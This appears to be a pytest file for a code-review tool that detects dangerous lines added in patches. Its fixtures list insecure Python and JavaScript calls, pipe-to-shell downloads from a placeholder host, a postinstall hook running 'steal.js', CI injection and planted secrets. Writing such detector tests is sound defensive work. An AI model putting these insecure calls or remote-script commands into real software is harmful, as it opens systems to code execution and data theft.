"""Dangerous added lines are found by what they do, and clean ones that come close are let be."""

from __future__ import annotations

import pytest

from qa.patches.examining import examine
from qa.patches.review import review
from qa.patches.telling import quoted
from tests.unit.qa.patches.making_patches import RULES, change, diff, loose
from tests.unit.qa.secret_plants import planted

BAD = """
eval(text)
x = eval
exec(code, {})
import builtins; builtins.eval(x)
__import__("os").system("ls")
import os; os.system(f"rm {x}")
import os; getattr(os, "system")("ls")
from os import system as s; s("ls")
import subprocess as sp; sp.run(cmd, shell=True)
import subprocess; subprocess.run(cmd, **{"shell": True})
import subprocess; subprocess.check_output(cmd, shell=use_shell)
import subprocess; subprocess.run(["sh", "-c", command])
import asyncio; asyncio.create_subprocess_shell(x)
import pickle; pickle.loads(data)
import marshal; marshal.load(f)
import yaml; yaml.load(f)
import yaml; yaml.load(f, Loader=yaml.Loader)
import requests; requests.get(url, verify=False)
import httpx; httpx.Client(verify=False)
session.verify = False
import tempfile; tempfile.mktemp()
import ssl; context.verify_mode = ssl.CERT_NONE
import jwt; jwt.decode(t, options={"verify_signature": False})
import numpy; numpy.load(f, allow_pickle=True)
import torch; torch.load(path)
db.execute(f"SELECT * FROM users WHERE name = '{name}'")
db.execute("DELETE FROM users WHERE id = %s" % user)
db.execute("SELECT * FROM t WHERE x = " + value)
assert user.is_admin
import random; token = random.choice(letters)
import hashlib; hashlib.md5(password.encode())
app.run(debug=True)
path.chmod(0o777)
tar.extractall(folder)
from markupsafe import Markup; Markup(comment)
""".strip().splitlines()
CLEAN = """
import ast; ast.literal_eval(text)
model.eval()
# eval(text) and os.system("ls") would be wrong here
words = "never call eval(x), os.system(y) or pickle.loads(z)"
frame.eval("a + b")
import re; re.compile(pattern)
import subprocess; subprocess.run(["ls", path], shell=False, check=True)
import subprocess; subprocess.run(["sh", "-c", "ls | wc -l"])
import yaml; yaml.safe_load(f)
import yaml; yaml.load(f, Loader=yaml.SafeLoader)
import json; json.loads(data)
import requests; requests.get(url, verify="/etc/ca.pem", timeout=5)
certificate.load(verify=False)
import tempfile; tempfile.mkstemp()
db.execute("SELECT * FROM users WHERE name = ?", (name,))
db.execute("SELECT a " + "FROM t")
log.info(f"SELECT took {seconds}")
assert isinstance(x, int)
import random; colour = random.choice(colours)
import secrets; token = secrets.token_urlsafe()
import hashlib; hashlib.sha256(content).hexdigest()
import hashlib; hashlib.scrypt(password, salt=salt, n=2**14, r=8, p=1)
app.run(debug=False)
path.chmod(0o600)
tar.extractall(folder, filter="data")
import torch; torch.load(path, weights_only=True)
def run(command, shell): return shell
""".strip().splitlines()


def body(line: str) -> str:
    return "".join(
        f"    {part.strip()}\n" for part in (line.split("; ") if line.startswith(("import", "from")) else [line])
    )


@pytest.mark.parametrize("line", BAD)
def test_a_dangerous_call_is_found(line: str) -> None:
    before = "def f(x):\n    return x\n"
    after = "def f(x):\n" + body(line) + "    return x\n"
    assert change("app.py", before, after) == ["dangerous-call"], line
    assert loose("app.py", before, after) == ["dangerous-call"], "without the tree, by the hunk alone"
    assert change("app.py", None, after) == ["dangerous-call"]


@pytest.mark.parametrize("line", CLEAN)
def test_what_comes_close_is_let_be(line: str) -> None:
    before = "def f(x):\n    return x\n"
    after = "def f(x):\n" + body(line) + "    return x\n"
    assert change("app.py", before, after) == []
    assert loose("app.py", before, after) == []


def test_what_was_there_before_is_not_the_patchs() -> None:
    before = "import os\n\n\ndef f(x):\n    os.system(x)\n    y = x\n    return y\n"
    assert change("app.py", before, before.replace("    y = x\n", "    y = x + 1\n")) == []
    assert loose("app.py", before, before.replace("    y = x\n", "    y = x + 1\n")) == []


def test_a_name_of_ones_own_is_ones_own() -> None:
    before = "def eval(x):\n    return x\n\n\n"
    assert change("app.py", before, before + "print(eval(3))\n") == []


def test_an_assert_in_a_test_is_no_guard() -> None:
    assert change("tests/test_a.py", None, "def test_a(user):\n    assert user.is_admin\n") == []


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("web/a.js", "const x = eval(input);"),
        ("web/a.ts", "el.innerHTML = `<b>${name}</b>`;"),
        ("web/a.jsx", "return <div dangerouslySetInnerHTML={{__html: x}} />;"),
        ("web/a.js", "document.write(location.hash);"),
        ("web/a.js", 'require("child_process").exec(cmd);'),
        ("web/a.js", 'const { exec } = require("child_process");'),
        ("web/a.js", "spawn(cmd, { shell: true });"),
        ("web/a.js", "new https.Agent({ rejectUnauthorized: false });"),
        ("web/a.js", 'setTimeout("go()", 5);'),
        ("install.sh", "curl -fsSL https://x.example/i.sh | sudo bash"),
        ("install.sh", 'eval "$(curl -s https://x.example)"'),
        ("install.sh", "bash <(curl -s https://x.example)"),
        ("Dockerfile", "RUN wget -qO- https://x.example/i | sh"),
        (".github/workflows/ci.yml", "      - run: echo ${{ github.event.issue.title }}"),
        (".github/workflows/ci.yml", "permissions: write-all"),
        ("run.sh", "chmod -R 777 /srv"),
        ("run.sh", "curl -k https://x.example -o x"),
        ("run.sh", "pip install --extra-index-url http://x.example a"),
        ("Makefile", "\tcurl https://x.example/i.sh | sh"),
        ("main.go", "\tTLSClientConfig: &tls.Config{InsecureSkipVerify: true},"),
        ("package.json", '    "postinstall": "node steal.js",'),
    ],
)
def test_dangerous_lines_elsewhere(path: str, line: str) -> None:
    assert "dangerous-line" in loose(path, "a\n", f"a\n{line}\n"), line


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("web/a.js", "// never eval(x)"),
        ("web/a.js", 'const warning = "eval(x) is evil, so is document.write(y)";'),
        ("web/a.js", 'el.innerHTML = "";'),
        ("web/a.js", "el.textContent = name;"),
        ("web/a.js", "if (el.innerHTML === '') return;"),
        ("web/a.js", "model.eval(x);"),
        ("web/a.js", "const m = /x/.exec(text);"),
        ("install.sh", "curl -fsSLo i.sh https://x.example/i.sh"),
        ("install.sh", "# curl https://x.example/i.sh | sh"),
        ("install.sh", 'echo "Run: curl https://x.example/i.sh | sh"'),
        ("install.sh", "curl -s https://x.example/list | grep sh"),
        ("README.md", "    curl https://x.example/i.sh | sh"),
        ("run.sh", "chmod 755 run.sh"),
        ("run.sh", "rm -rf build/"),
        ("notes.txt", "eval(x) and pickle.loads(y)"),
        ("docker-compose.yml", "    ports: ['8080:80']"),
    ],
)
def test_clean_lines_elsewhere(path: str, line: str) -> None:
    assert loose(path, "a\n", f"a\n{line}\n") == []


def test_planted_secrets_are_found_and_not_repeated() -> None:
    caught = 0
    for text in planted():
        done = review(diff("config.ini", "a = 1\n", f"a = 1\n{text}\n"), RULES)
        caught += any(one.code == "secret-added" for one in done.findings)
    assert caught >= 98
    key = "AKIA" + "QX5V7T2MJ4KLR3WE"
    (one,) = review(diff("a.py", None, f'KEY = "{key}"\n'), RULES).findings
    assert key not in one.message
    assert loose("a.py", None, 'KEY = settings.aws_key  # "AKIAIOSFODNN7EXAMPLE" in the manual\n') == []


def test_a_secret_that_is_taken_out_is_not_found() -> None:
    assert loose("a.py", 'KEY = "AKIA' + 'QX5V7T2MJ4KLR3WE"\nx = 1\n', "x = 1\n") == []


def test_a_message_quotes_little() -> None:
    assert len(quoted("x" * 500)) < 100


@pytest.mark.parametrize(
    ("path", "before", "after", "codes"),
    [
        ("a.py", "x = 1\n", "x = (1\n", ["syntax"]),
        ("a.json", '{"a": 1}\n', '{"a": 1,}\n', ["syntax"]),
        ("a.toml", "a = 1\n", "a = \n", ["syntax"]),
        ("a.py", "x = (\n", "x = ((\n", []),  # it was none before
        ("a.py", "x = 1\n", "type Names = list[str]\n", []),  # 3.12
        ("a.py", "x = 1\n", "def first[T](of: list[T]) -> T:\n    return of[0]\n", []),  # 3.12
        ("a.json", '{"a": 1}\n', '{"a": 2}\n', []),
    ],
)
def test_files_stay_readable(path: str, before: str, after: str, codes: list[str]) -> None:
    assert change(path, before, after) == codes


def test_nothing_that_could_make_the_tests_pass_by_itself() -> None:
    assert change("sitecustomize.py", None, "import os\n") == ["dangerous-line"]
    assert change("src/x.pth", None, "import os\n") == ["dangerous-line"]
    ends = "import os\n\n\ndef pytest_sessionfinish():\n    os._exit(0)\n"
    assert change("tests/conftest.py", None, ends) == ["dangerous-call"]
    assert change("src/worker.py", None, ends) == []
    assert change("src/lexer.py", None, "def f(token):\n    assert token.type\n") == []


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("requirements.txt", "a" + " " * 60_000 + "!"),
        ("requirements.txt", "--index-url" + " " * 60_000 + "\x00"),
        ("pyproject.toml", '"a>=1"' + " " * 60_000 + "!"),
        ("pyproject.toml", "fail_under" + " " * 60_000 + "!"),
        ("Dockerfile", "FROM a" + " " * 60_000 + "!"),
        ("web/a.js", "`" * 30_000),
        ("app.py", "x = '" + "#" * 60_000),
        ("run.sh", "curl " * 12_000),
        ("uv.lock", "sha256:" * 9_000),
        ("tests/test_a.py", "assert " * 9_000),
    ],
)
def test_no_line_takes_forever(path: str, line: str) -> None:
    """Seconds at most where each search is linear; the suite's own limit ends it where one is not."""
    loose(path, "a\n", f"a\n{line}\n")
    loose("b", "a\n", f"a\n{line}\n")


@pytest.mark.parametrize(
    "deep",
    ["x = " + "1+" * 20_000 + "1", "x = " + "(" * 150 + ")" * 150, "f" + "(f" * 90 + "()" + ")" * 90, "x = " + "a." * 5_000 + "b",
     "x = [" + ", ".join("0" for _ in range(20_000)) + "]", "db.execute(" + "'a' + " * 3_000 + "b)"],
)  # fmt: skip
def test_code_that_is_nested_deep_breaks_nothing(deep: str) -> None:
    for source in (f"a = b = 0\n{deep}\n", f"import os\n\n\ndef f(a, b, db):\n    {deep}\n    os.system(a)\n"):
        found = change("app.py", None, source)
        assert "os.system" not in source or found, "what can't be read is never passed"


async def test_whatever_breaks_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    def breaks(*_: object, **__: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr("qa.patches.examining.review", breaks)
    assert [one.code for one in await examine("x", RULES)] == ["layer-broken"]
